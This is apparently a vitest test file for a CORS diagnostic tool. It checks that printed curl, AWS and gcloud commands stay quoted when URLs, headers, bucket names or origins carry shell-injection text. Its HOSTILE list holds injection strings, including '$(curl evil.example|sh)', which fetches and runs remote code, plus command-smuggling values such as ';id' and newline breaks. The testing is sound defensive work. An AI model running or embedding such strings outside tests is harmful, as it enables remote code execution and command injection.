/**
 * Every shell command CORS Lens prints, for records whose URL path, host, query, S3 bucket, request
 * header names and values, and page origin carry hostile text (`;`, `|`, `&&`, `$(…)`, backticks,
 * quotes, newlines, `%0A`, …): parsed with shell-quote it is only words (no operator, no glob, no
 * comment), it is one line, and the hostile text sits inside one argument or is replaced by a
 * placeholder. The commands come from the rules' findings on every golden scenario (S3 CORS CLI,
 * CloudFront invalidation, Check and test curl lines) and from Copy as curl, with and without the
 * preflight.
 */
import { describe, expect, test } from 'vitest';
import { parse } from 'shell-quote';
import { analyze } from '../../src/engine/analyze.ts';
import type { MessageValue, RequestRecord } from '../../src/engine/model.ts';
import { isList, isRef } from '../../src/engine/rules/lib/text.ts';
import { varyFixFor } from '../../src/engine/cdn/index.ts';
import { PLACEHOLDER_BUCKET, isS3BucketName } from '../../src/engine/cdn/fixes.ts';
import { curlFor } from '../../src/export/index.ts';
import { SCENARIOS } from './scenarios/scenarios.ts';

/** Marks where hostile text starts and ends: whatever the shell does to it, both must stay in one word. */
const START = 'zq';
const END = 'qz';
const HOSTILE = [';', 'x;id;', 'a|id', '&& id', '$(curl evil.example|sh)', '`id`', "'; id; '", '"$(id)"', '\n', '\r\nid', '%0A', '%0D%0A', '\u2028', '\u0085', '<in >out', '#', '*', '{a,b}~', '\\ '];
const wrapped = (hostile: string): string => `${START}${hostile}${END}`;

const CDN_HOST = 'https://d16ufd393m7gss.cloudfront.net';

type Placement = (record: RequestRecord, text: string) => RequestRecord;
const withUrl = (record: RequestRecord, url: string): RequestRecord => ({ ...record, url });
const withRequestHeader = (record: RequestRecord, name: string, value: string): RequestRecord => ({
  ...record,
  requestHeaders: [...(record.requestHeaders ?? []).filter(([existing]) => existing !== name), [name, value]],
});

const PLACEMENTS: Record<string, Placement> = {
  'URL path': (record, text) => withUrl(record, record.url.replace('/public/', `/public/${text}/`)),
  'URL query': (record, text) => withUrl(record, `${record.url}?token=${text}&b=2`),
  'URL host': (record, text) => withUrl(record, record.url.replace(CDN_HOST, `https://${text}.cloudfront.net`)),
  'S3 bucket, path-style': (record, text) => withUrl(record, record.url.replace(CDN_HOST, `https://s3.amazonaws.com/${text}`)),
  'S3 bucket, virtual-hosted': (record, text) => withUrl(record, record.url.replace(CDN_HOST, `https://${text}.s3.amazonaws.com`)),
  'request header name': (record, text) => withRequestHeader(record, text.toLowerCase(), 'v'),
  'request header value': (record, text) => withRequestHeader(record, 'x-player-session', text),
  'Origin header value': (record, text) => withRequestHeader(record, 'origin', text),
  'page origin': (record, text) => ({ ...record, pageOrigin: text }),
  'page origin as a URL': (record, text) => ({ ...record, pageOrigin: `https://${text}` }),
};

/** The commands a finding's fix carries: the values named `cli` or `command`, wherever they sit in its steps. */
function commandsIn(value: MessageValue, found: string[]): string[] {
  if (isList(value)) for (const item of value.items) commandsIn(item, found);
  else if (isRef(value)) {
    for (const [name, inner] of Object.entries(value.data ?? {})) {
      if ((name === 'cli' || name === 'command') && typeof inner === 'string') found.push(inner);
      else commandsIn(inner, found);
    }
  }
  return found;
}

function fixCommands(records: RequestRecord[]): string[] {
  return analyze(records).findings.flatMap((finding) => (finding.fixSteps ?? []).flatMap((step) => commandsIn(step, [])));
}

function printedCommands(records: RequestRecord[]): string[] {
  const commands = fixCommands(records);
  for (const record of records) {
    for (const line of [curlFor(record, { keepSecrets: true }), curlFor(record, { preflight: true, keepSecrets: true })]) if (line !== null) commands.push(line);
  }
  return commands;
}

/**
 * What a pasted line must be: one line, only words, the hostile text (between the marks) inside one
 * word. `cutByUrl`: the URL parser itself ends the part at a `#` (the fragment, never sent) or `\\`
 * (a path separator in http URLs), so a mark may be left alone; the other checks still hold.
 */
function problemsOf(line: string, cutByUrl: boolean): string[] {
  const problems: string[] = [];
  if (/[\n\r\u0085\u2028\u2029]/.test(line)) problems.push('more than one line');
  for (const word of parse(line)) {
    if (typeof word !== 'string') {
      problems.push(`not a word: ${JSON.stringify(word)}`);
      continue;
    }
    const start = word.indexOf(START);
    const end = word.lastIndexOf(END);
    // A word holding one mark holds both, in order: the hostile text between them was not split off.
    if (!cutByUrl && (start !== -1 || end !== -1) && !(start !== -1 && end > start)) problems.push(`hostile text split: ${JSON.stringify(word)}`);
  }
  return problems.map((problem) => `${problem} in ${line}`);
}

/** The scenarios whose findings print a command (the rest add only curl lines, which every scenario checks the same way). */
const WITH_COMMANDS = SCENARIOS.filter((scenario) => fixCommands(scenario.records).length > 0);

describe('printed commands with hostile input', () => {
  test('the scenarios print every kind of command (so the table below checks something)', () => {
    expect(WITH_COMMANDS.length).toBeGreaterThanOrEqual(8);
    const commands = WITH_COMMANDS.flatMap((scenario) => printedCommands(scenario.records));
    for (const start of ['curl ', 'aws s3api put-bucket-cors ', 'aws cloudfront create-invalidation ']) {
      expect(commands.some((command) => command.startsWith(start)), start).toBe(true);
    }
  });

  describe.each(Object.entries(PLACEMENTS))('hostile text in the %s', (where, place) => {
    test.each(HOSTILE.map((hostile) => [JSON.stringify(hostile), hostile] as const))('%s', (_label, hostile) => {
      let checked = 0;
      let carried = 0;
      const buckets: string[] = [];
      const problems: string[] = [];
      const inUrl = where.startsWith('URL') || where.startsWith('S3') || where === 'page origin as a URL';
      const cutByUrl = inUrl && /[#\\]/.test(hostile);
      for (const scenario of WITH_COMMANDS) {
        const records = scenario.records.map((record) => place(record, wrapped(hostile)));
        for (const line of printedCommands(records)) {
          problems.push(...problemsOf(line, cutByUrl).map((problem) => `${scenario.name}: ${problem}`));
          checked++;
          if (line.includes(START)) carried++;
          if (line.startsWith('aws s3api')) buckets.push(parse(line)[4] as string);
        }
      }
      expect(problems).toEqual([]);
      expect(checked).toBeGreaterThan(0);
      // A page origin with hostile text is no origin: a placeholder stands in. (The URL parser drops tabs and
      // newlines, so `https://zq\nqz` is the origin https://zqqz, as the browser would have it.)
      const hostAfterParsing = hostile.replace(/[\t\n\r]/g, '');
      if (where === 'page origin' || (where === 'page origin as a URL' && !cutByUrl && !/^[a-z0-9.-]*$/.test(hostAfterParsing))) expect(carried).toBe(0);
      // A bucket is a valid bucket name (the URL parser drops tabs and newlines, as the browser did) or the placeholder.
      if (where.startsWith('S3 bucket')) {
        expect(buckets.length).toBeGreaterThan(0);
        for (const bucket of buckets) expect(bucket === PLACEHOLDER_BUCKET || isS3BucketName(bucket), bucket).toBe(true);
      }
    });
  });

  test('hostile text in a URL path does reach the commands, quoted (the checks above are not vacuous)', () => {
    const lines = SCENARIOS.flatMap((scenario) => printedCommands(scenario.records.map((record) => PLACEMENTS['URL path']!(record, wrapped('$(id);`id`')))));
    const quoted = lines.filter((line) => line.includes(`${START}$(id);`));
    expect(quoted.length).toBeGreaterThan(0);
    for (const line of quoted) expect(parse(line).some((word) => typeof word === 'string' && word.includes(`${START}$(id);%60id%60${END}`))).toBe(true);
  });

  test('the S3 URL from the issue yields a bucket placeholder, not a second command', () => {
    const records = SCENARIOS.flatMap((scenario) => scenario.records)
      .filter((record) => record.url.startsWith(CDN_HOST))
      .map((record) => withUrl(record, record.url.replace(CDN_HOST, 'https://s3.amazonaws.com/x;id;')));
    const s3Lines = printedCommands(records).filter((line) => line.startsWith('aws s3api'));
    expect(s3Lines.length).toBeGreaterThan(0);
    for (const line of s3Lines) {
      expect(line).toContain("--bucket '<bucket>' ");
      expect(parse(line).every((word) => typeof word === 'string')).toBe(true);
    }
  });

  test('static commands in fix texts are quoted too (gcloud for Cloud Storage)', () => {
    const text = varyFixFor('google');
    const command = /(gcloud \S+ \S+ \S+ \S+ \S+)/.exec(text)?.[1];
    expect(command).toBeDefined();
    expect(parse(command!)).toEqual(['gcloud', 'storage', 'buckets', 'update', 'gs://<bucket>', '--cors-file=cors.json']);
  });
});
